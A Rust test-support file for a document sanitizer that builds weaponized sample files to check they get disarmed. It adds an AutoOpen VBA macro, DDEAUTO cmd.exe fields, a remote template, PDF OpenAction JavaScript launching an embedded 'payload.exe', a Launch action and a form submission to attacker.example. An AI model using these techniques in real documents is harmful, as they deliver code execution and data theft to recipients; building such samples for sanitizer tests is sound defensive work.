//! The sanitization samples and their third-party verifiers, shared by
//! mdcore's sanitizer tests and mdserver's end-to-end test (included there
//! by path): documents made by LibreOffice and given active content by
//! hand or by pikepdf; oletools, pdfid, qpdf, pdftotext and LibreOffice to
//! judge them.

#![allow(dead_code)]

use std::io::{Cursor, Read, Write};
use std::path::Path;
use std::process::Command;

use crate::shared::{ole2_of, tool, vba_project};

pub const MACRO: &str =
    "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n    Shell \"calc.exe\"\r\nEnd Sub\r\n";
pub const TEXT: &str = "Quarterly figures, marker 4711: revenue rose by nine percent.";

/// Runs a verifier from `support/cdr-tools.sh` (oletools, pdfid, pikepdf,
/// installed into target/cdr-venv on first use); its stdout and exit code.
pub fn verifier(program: &str, args: &[&str]) -> (String, i32) {
    // From mdcore's tests or mdserver's: the script sits beside this file.
    let script = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../mdcore/tests/support/cdr-tools.sh"
    );
    let out = Command::new("bash")
        .arg(script)
        .arg(program)
        .args(args)
        .output()
        .expect("can not run tests/support/cdr-tools.sh");
    let text =
        String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr);
    (text, out.status.code().unwrap_or(-1))
}

/// LibreOffice, headless, with a profile of its own in `dir` (parallel
/// instances must not share one); `None` when it is not installed outside
/// CI. A run that crashes is tried again, twice: LibreOffice sometimes
/// aborts while it makes a new profile beside other instances.
pub fn soffice(dir: &Path, args: &[&str]) -> Option<()> {
    let profile = format!("-env:UserInstallation=file://{}/lo-profile", dir.display());
    let mut all = vec![profile.as_str(), "--headless", "--norestore"];
    all.extend_from_slice(args);
    for _ in 0..2 {
        match Command::new("soffice").args(&all).current_dir(dir).output() {
            Ok(out) if out.status.success() => return Some(()),
            Ok(out) => eprintln!(
                "soffice {args:?} failed ({}), trying again: {}",
                out.status,
                String::from_utf8_lossy(&out.stderr)
            ),
            Err(_) => break,
        }
    }
    tool(dir, "soffice", &all)
}

/// A document LibreOffice writes from plain text (`docx` from a `.txt`,
/// `xlsx` from a `.csv`).
pub fn libreoffice_document(dir: &Path, ext: &str, filter: &str) -> Option<Vec<u8>> {
    let source = if ext.starts_with("xl") {
        std::fs::write(dir.join("source.csv"), format!("\"{TEXT}\",7\n")).unwrap();
        "source.csv"
    } else {
        std::fs::write(dir.join("source.txt"), format!("{TEXT}\n")).unwrap();
        "source.txt"
    };
    let to = format!("{ext}:{filter}");
    soffice(dir, &["--convert-to", &to, source])?;
    Some(std::fs::read(dir.join(format!("source.{ext}"))).unwrap())
}

/// The text LibreOffice reads from a document, through a PDF export and
/// pdftotext.
pub fn text_of_document(dir: &Path, name: &str, data: &[u8]) -> String {
    let sub = dir.join(format!("open-{name}"));
    std::fs::create_dir_all(&sub).unwrap();
    std::fs::write(sub.join(name), data).unwrap();
    soffice(&sub, &["--convert-to", "pdf", name]).expect("LibreOffice is installed");
    let stem = Path::new(name).file_stem().unwrap().to_str().unwrap();
    let pdf = sub.join(format!("{stem}.pdf"));
    assert!(pdf.exists(), "LibreOffice did not open {name}");
    tool(&sub, "pdftotext", &[&format!("{stem}.pdf"), "out.txt"]).expect("pdftotext");
    std::fs::read_to_string(sub.join("out.txt")).unwrap()
}

pub fn parts(zip: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut z = zip::ZipArchive::new(Cursor::new(zip)).unwrap();
    (0..z.len())
        .map(|i| {
            let mut f = z.by_index(i).unwrap();
            let mut d = Vec::new();
            f.read_to_end(&mut d).unwrap();
            (f.name().unwrap().to_string(), d)
        })
        .collect()
}

pub fn zip_parts(parts: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (n, d) in parts {
        w.start_file(n.as_str(), zip::write::SimpleFileOptions::default())
            .unwrap();
        w.write_all(d).unwrap();
    }
    w.finish().unwrap().into_inner()
}

pub fn edit(parts: &mut Vec<(String, Vec<u8>)>, name: &str, f: impl FnOnce(String) -> String) {
    match parts.iter_mut().find(|(n, _)| n == name) {
        Some((_, d)) => *d = f(String::from_utf8(d.clone()).unwrap()).into_bytes(),
        None => parts.push((name.to_string(), f(String::new()).into_bytes())),
    }
}

/// A `vbaProject.bin` holding one module, its `PROJECT` stream included.
pub fn vba_bin(source: &str) -> Vec<u8> {
    let project = vba_project("VBA", &[("Module1", source)]);
    let mut streams: Vec<(&str, &[u8])> = project
        .iter()
        .map(|(n, d)| (n.as_str(), d.as_slice()))
        .collect();
    let text =
        b"ID=\"{00000000-0000-0000-0000-000000000000}\"\r\nModule=Module1\r\nName=\"Project\"\r\n";
    streams.push(("PROJECT", text));
    ole2_of(&streams)
}

pub const REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/// A LibreOffice docx given a VBA project (as a docm), a DDEAUTO field
/// split over two runs, and a remote template.
pub fn weaponize_docx(docx: &[u8]) -> Vec<u8> {
    let mut p = parts(docx);
    p.push(("word/vbaProject.bin".into(), vba_bin(MACRO)));
    edit(&mut p, "[Content_Types].xml", |s| {
        s.replace(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        )
        .replace(
            "</Types>",
            "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>",
        )
    });
    edit(&mut p, "word/_rels/document.xml.rels", |s| {
        s.replace(
            "</Relationships>",
            "<Relationship Id=\"rIdVba\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/></Relationships>",
        )
    });
    edit(&mut p, "word/_rels/settings.xml.rels", |_| {
        format!(
            "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rIdT\" Type=\"{REL}/attachedTemplate\" Target=\"http://templates.example.net/t.dotm\" TargetMode=\"External\"/></Relationships>"
        )
    });
    edit(&mut p, "word/settings.xml", |s| {
        let at = s.find("<w:settings").unwrap();
        let end = at + s[at..].find('>').unwrap() + 1;
        format!(
            "{}<w:attachedTemplate xmlns:r=\"{REL}\" r:id=\"rIdT\"/>{}",
            &s[..end],
            &s[end..]
        )
    });
    edit(&mut p, "word/document.xml", |s| {
        let field = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> DDE</w:instrText></w:r><w:r><w:instrText xml:space=\"preserve\">AUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>field result</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
        let at = s.find("<w:body>").unwrap() + "<w:body>".len();
        format!("{}{field}{}", &s[..at], &s[at..])
    });
    zip_parts(&p)
}

/// An OLE 1.0 embedded object (as `\objdata` carries it): a Package
/// holding a small executable.
pub fn ole1_package_hex() -> String {
    let mut d = Vec::new();
    d.extend_from_slice(&0x0501u32.to_le_bytes()); // OLEVersion
    d.extend_from_slice(&2u32.to_le_bytes()); // FormatID: embedded
    d.extend_from_slice(&8u32.to_le_bytes());
    d.extend_from_slice(b"Package\0");
    d.extend_from_slice(&0u32.to_le_bytes()); // TopicName
    d.extend_from_slice(&0u32.to_le_bytes()); // ItemName
    let payload = b"MZ\x90\x00 this program cannot be run in DOS mode";
    d.extend_from_slice(&(payload.len() as u32).to_le_bytes());
    d.extend_from_slice(payload);
    d.iter().map(|b| format!("{b:02x}")).collect()
}

/// Gives a LibreOffice-made PDF its active content with pikepdf: an
/// OpenAction JavaScript (a stream), a JavaScript name tree, a page
/// open action that launches a program, an embedded EXE, a link that
/// submits the form and one plain web link (which must stay).
pub const ARM_PDF: &str = r#"
import sys, pikepdf
from pikepdf import Array, Dictionary, Name, String
pdf = pikepdf.open(sys.argv[1])
js = pdf.make_stream(b"app.alert('opened'); this.exportDataObject({cName: 'payload.exe', nLaunch: 2});")
pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=js)
named = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("this.print();")))
pdf.Root.Names = pdf.make_indirect(Dictionary(JavaScript=Dictionary(Names=Array([String("doc"), named]))))
page = pdf.pages[0]
page.obj.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("cmd.exe"), Next=Dictionary(S=Name.JavaScript, JS=String("x()"))))
exe = b"MZ" + b"\0" * 58 + b"\x40\0\0\0" + b"PE\0\0" + b"\0" * 200
pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, exe, filename="payload.exe")
link = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([10, 10, 60, 30]),
    A=Dictionary(S=Name.URI, URI=String("https://example.com/report"))))
submit = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([70, 10, 120, 30]),
    A=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://attacker.example/collect")))))
page.obj.Annots = pdf.make_indirect(Array([link, submit]))
pdf.save(sys.argv[2])
"#;

/// pdfid's counts of the keywords the issue names.
pub fn pdfid_counts(path: &Path) -> Vec<(String, u64)> {
    let (out, code) = verifier("python", &["-m", "pdfid", path.to_str().unwrap()]);
    assert_eq!(code, 0, "pdfid failed:\n{out}");
    let mut counts = Vec::new();
    for key in [
        "/JS",
        "/JavaScript",
        "/OpenAction",
        "/AA",
        "/Launch",
        "/EmbeddedFile",
    ] {
        let n = out
            .lines()
            .filter_map(|l| {
                let mut w = l.split_whitespace();
                (w.next() == Some(key)).then(|| w.next().and_then(|n| n.parse::<u64>().ok()))?
            })
            .next()
            .unwrap_or_else(|| panic!("pdfid printed no {key} line:\n{out}"));
        counts.push((key.to_string(), n));
    }
    counts
}

/// `qpdf --check` passes without a warning.
pub fn qpdf_check(dir: &Path, name: &str) {
    let out = Command::new("qpdf")
        .args(["--check", name])
        .current_dir(dir)
        .output()
        .expect("qpdf is installed");
    let text =
        String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "qpdf --check {name}:\n{text}");
    assert!(!text.contains("WARNING"), "qpdf --check {name}:\n{text}");
}

pub fn pdftotext(dir: &Path, name: &str) -> String {
    let txt = format!("{name}.txt");
    tool(dir, "pdftotext", &[name, &txt]).expect("pdftotext is installed");
    std::fs::read_to_string(dir.join(txt)).unwrap()
}

/// The issue's docm: a LibreOffice document given an AutoOpen macro, a
/// DDEAUTO field and a remote template (`None` without LibreOffice outside
/// CI).
pub fn docm_sample(dir: &Path) -> Option<Vec<u8>> {
    let docx = libreoffice_document(dir, "docx", "MS Word 2007 XML")?;
    Some(weaponize_docx(&docx))
}

/// The issue's PDF: LibreOffice's PDF of the text given an OpenAction
/// JavaScript, an embedded EXE and the rest of [`ARM_PDF`].
pub fn pdf_sample(dir: &Path) -> Option<Vec<u8>> {
    std::fs::write(dir.join("source.txt"), format!("{TEXT}\n")).unwrap();
    soffice(dir, &["--convert-to", "pdf", "source.txt"])?;
    let (src, out) = (dir.join("source.pdf"), dir.join("armed.pdf"));
    let (log, code) = verifier(
        "python",
        &["-c", ARM_PDF, src.to_str().unwrap(), out.to_str().unwrap()],
    );
    assert_eq!(code, 0, "pikepdf:\n{log}");
    Some(std::fs::read(out).unwrap())
}

/// The issue's RTF: LibreOffice's RTF of the text given an embedded OLE
/// Package object (an executable inside) and a DDEAUTO field.
pub fn rtf_sample(dir: &Path) -> Option<String> {
    std::fs::write(dir.join("source.txt"), format!("{TEXT}\n")).unwrap();
    soffice(dir, &["--convert-to", "rtf", "source.txt"])?;
    let rtf = std::fs::read_to_string(dir.join("source.rtf")).unwrap();
    let end = rtf.rfind('}').unwrap();
    Some(format!(
        "{}\\par {{\\object\\objemb{{\\*\\objclass Package}}\\objw100\\objh100{{\\*\\objdata {}}}{{\\result {{\\rtlch object picture}}}}}}\\par {{\\field{{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"}}{{\\fldrslt field result}}}}{}",
        &rtf[..end],
        ole1_package_hex(),
        &rtf[end..]
    ))
}
